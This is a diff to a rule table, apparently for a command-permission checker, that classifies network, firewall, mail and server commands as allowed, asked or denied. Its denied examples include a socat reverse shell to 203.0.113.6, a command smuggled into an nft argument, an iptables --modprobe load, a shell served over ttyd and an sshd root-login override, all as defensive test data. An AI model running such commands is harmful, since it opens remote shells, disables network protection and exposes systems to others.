@@ -193,12 +193,15 @@
   (any "exec* EXEC* Exec* system* SYSTEM* System* shell* SHELL*"
     (deny hidden-execution "socat is told to run a command")) (opaque "its addresses are not read")
   (examples asks "socat - tcp:h:1" denies "socat exec:'bash -li',pty,stderr tcp:203.0.113.6:443"))
-(program "dig host nslookup drill delv kdig resolvectl systemd-resolve whois geoiplookup nmblookup avahi-browse
+(program "dig host nslookup drill delv kdig whois geoiplookup nmblookup avahi-browse
           avahi-resolve dog doggo q ldapsearch" (class acts) (is network downloads) (style none) (args "text*")
-  (word 1 "status statistics" (class reads) (is local))
+  (examples asks "dig example.com" "host x" "whois x" "dig status x"))
+(program "resolvectl systemd-resolve" (class acts) (is network) (style none) (args "text*")
+  (word 1 "status statistics --status --statistics show-cache show-server-state" (class reads) (is local)
+    (any "-i* --i* -M* --m*" (is network) (unknown "is given words that the table does not list")))
   (word 1 "dns domain default-route dnssec revert" (given 2 (deny network-settings
     "Where names are looked up is changed")))
-  (examples reads "resolvectl status" asks "dig example.com" "host x" "whois x"))
+  (examples reads "resolvectl status" asks "resolvectl query x" denies "resolvectl dns eth0 9.9.9.9"))
 (program "ping ping6 fping arping traceroute traceroute6 tracepath mtr tcptraceroute iperf iperf3 speedtest
           speedtest-cli fast ntpdate ntpq chronyc sntp smokeping" (class acts) (is network) (style none)
   (args "text*")
@@ -231,7 +234,7 @@
   (sub "address addr a link l route r ro rule ru neigh neighbor neighbour n maddress mroute tunnel tuntap monitor
         netconf ntable token tcp_metrics xfrm sr macsec nexthop vrf stats mptcp fou l2tp ioam" (style none)
     (args "text*") (given 1 (unknown "is given a word that the table does not list"))
-    (word 1 "show list ls lst s l get help showdump dev up" (unknown ""))
+    (word 1 "show list ls lst l get help showdump dev up" (unknown ""))
     (word 1 "add a ad del delete d change c chg replace set flush f append prepend restore save down bring"
       (class acts) (unknown "") (deny network-settings "Addresses or routes of the machine are changed")))
   (sub "netns" (class acts) (style none) (args "text*") (none (class reads))
@@ -240,12 +243,10 @@
     (word 1 "add del delete set attach" (deny network-settings "Networks of the machine are changed")))
   (sub "help" (args "text*")) (flags "-batch=hidden -b=hidden -force")
   (examples reads "ip -br link" "ip addr" "ip a show dev eth0" "ip route" "ip -4 addr show" "ip neigh" denies
-    "ip link set eth0 down" "ip route del default" asks "ip netns exec x sh"))
+    "ip link set eth0 down" "ip route del default" asks "ip netns exec x sh" "ip link s eth0 down"))
 (program "ifconfig" (style none) (args "text*") (word 1 "-a -s -v" (class reads))
   (given 2 (class acts) (deny network-settings "Addresses of the machine are changed"))
-  (word 1 "-a" (pardon network-settings))
-  (given 3 (class acts) (deny network-settings "Addresses of the machine are changed"))
-  (examples reads "ifconfig" "ifconfig eth0" "ifconfig -a" denies "ifconfig eth0 down"))
+  (examples denies "ifconfig -a down" reads "ifconfig" "ifconfig eth0" "ifconfig -a" denies "ifconfig eth0 down"))
 (program "route arp" (style none) (args "text*")
   (any "*" "-n -e -ee -v -a -F -C -6 -4 -i eth* en* wl* -en -an -ne"
     (unknown "is given a word that the table does not list"))
@@ -262,6 +263,8 @@
     (word 1 "dev g general device d connection con c qdisc link fdb -t -s" (class acts)
       (ask network-settings "Settings of the network or the machine may change"))
     (word 2 "status show list s l ls wifi" (pardon network-settings) (class reads)))
+  (any "-H* --ho* -M* --ma*" (is network) (unknown "asks another machine"))
+  (any "--show-s*" (deny secret "Passwords of networks are shown"))
   (any "-set*" (deny network-settings "Settings of the network or the machine are changed"))
   (any "set set-time set-ntp add del delete up down connect disconnect modify apply replace change flush -K -G -A -C -L -E block
         unblock off on edit reload restart addbr delbr -r -x rescan reapply connection.* ipv4.* clone load import"
@@ -269,7 +272,7 @@
   (word 1 "eth? en?s? wlan? -i -k -a -g -c -l -n -d -m -u -T" (class reads) (pardon network-settings)
     (given 3 (class acts) (ask network-settings "Settings of the network may change")))
   (examples reads "nmcli dev status" "timedatectl" "ethtool eth0" "hostnamectl status" "nmcli" "timedatectl status"
-    denies "nmcli con up x" "timedatectl set-time x" asks "iwconfig wlan0 essid x"))
+    unknown "timedatectl status -H h" denies "nmcli con show --show-secrets x" "nmcli con up x" "timedatectl set-time x" asks "iwconfig wlan0 essid x"))
 (program "netstat" (style exact) (flags
   "-# -nrlaitupsWecCgoFMxveZN46vdwT -A=text --numeric --listening --all --tcp --udp --raw --unix --summary --route --interfaces?text --statistics --program --programs --timers --continuous --groups --verbose --wide --symbolic --extend --inet --inet6 --numeric-ports -p=text -f=text -I?text") (flags "-p") (args "text*") (examples reads "netstat -an" "netstat -rn" "netstat -tulpn"))
 (program "ss" (style exact) (flags
@@ -292,11 +295,17 @@
           fail2ban-client ipvsadm conntrack iptables-legacy iptables-nft" (class acts) (style none) (args "text*")
   (deny protection "The filter of the network is changed")
   (word 1 "-L -S --list --list-rules status --state --list-all --list-ports --list-services list -nL -nvL -vnL -Ln
-         -Lnv -t" (class reads) (pardon protection))
+         -Lnv -t" (class reads) (pardon protection)
+    (any "-*" "-L -S --list --list-rules --state --list-all --list-ports --list-services -nL -nvL -vnL -Ln -Lnv -t -n
+          -v -nv -vn -x --line-numbers --numeric --verbose --exact --table --zone=* --permanent -a -s -j -y"
+      (class acts) (deny protection "The filter of the network may be changed"))
+    (any "*;*" (class acts) (deny protection "The filter of the network may be changed")))
+  (any "-M* --mod*" (deny hidden-execution "A program is named that loads modules"))
   (any "-A -D -I -R -F -X -P -N -E -Z --append --delete --insert --flush --policy --zero add delete flush insert
         disable enable reset reload --add-* --remove-* --set-* --panic-on -f create destroy replace rename"
     (class acts) (deny protection "The filter of the network is changed"))
-  (examples reads "iptables -L -n" "ufw status" "nft list ruleset" denies "iptables -F" "ufw disable"
+  (examples reads "iptables -L -n" "ufw status" "nft list ruleset" denies "nft list 'ruleset; flush ruleset'" "iptables -L --modprobe=/tmp/x" "iptables -t nat --delete-chain"
+    "ipset list -file x" "iptables -F" "ufw disable"
     "iptables -t nat -F" "iptables -P INPUT ACCEPT"))
 (program "iptables-save ip6tables-save" (is pure) (flags "-c -t=text") (examples reads "iptables-save"))
 (program "mail mailx mutt neomutt sendmail msmtp ssmtp swaks s-nail nail mutt-org exim exim4 postfix postsuper
@@ -306,16 +315,22 @@
   (any "sendmail=* *set?shell* *set?editor* --exec* exec:* *set?sendmail*"
     (deny hidden-execution "A mail program is told to run a command"))
   (examples asks "mail -s 'Status' team@corp.example"))
-(program "caddy nginx apache2 httpd apachectl haproxy traefik envoy lighttpd thttpd darkhttpd squid dnsmasq bind9
+(program "caddy haproxy traefik envoy lighttpd thttpd darkhttpd squid dnsmasq bind9
           named unbound coredns sshd vsftpd smbd samba rpcbind exportfs inetd xinetd vncserver x11vnc xrdp ttyd gotty
           code-server mosquitto rabbitmq-server nats-server etcd boundary webfsd miniserve
           simple-http-server php-fpm uwsgi" (class acts) (style none) (args "text*")
-  (ask service "A server is started or changed") (word 1 "-v -V version --version" (pardon service) (class reads))
+  (ask service "A server is started or changed") (word 1 "version --version" (pardon service) (class reads))
   (any "/ ~ /home/* /root* /etc*" (deny exfiltration "Files outside the workspace are served to others"))
   (any "bash sh zsh /bin/sh /bin/bash login" (deny escape "A shell is offered to others on the network"))
   (any "PermitRootLogin=* PermitEmptyPasswords=* -oPermit*" (deny accounts "Others may log in"))
-  (examples reads "nginx -v" asks "caddy run" "nginx -s reload" denies
-    "ttyd -p 7681 bash" "httpd -h /home/dev" "sshd -o PermitRootLogin=yes"))
+  (examples reads "caddy version" asks "caddy run" "unbound -v" "miniserve -v ." denies
+    "ttyd -p 7681 bash" "darkhttpd /home/dev" "sshd -o PermitRootLogin=yes"))
+(program "nginx apache2 httpd apachectl" (class acts) (style none) (args "text*")
+  (ask service "A server is started or changed")
+  (word 1 "-v -V -version --version" (pardon service) (class reads))
+  (any "/ ~ /home/* /root* /etc*" (deny exfiltration "Files outside the workspace are served to others"))
+  (given 2 (class acts) (ask service "A server is started or changed"))
+  (examples reads "nginx -v" "apachectl -V" asks "nginx -s reload" "nginx -t" denies "httpd -h /home/dev"))
 (program "vault consul nomad etcdctl" (class acts) (is network) (style none) (args "text*")
   (ask remote-change "A service that others use is asked or changed")
   (word 1 "version --version -v status help" (class reads) (pardon remote-change))
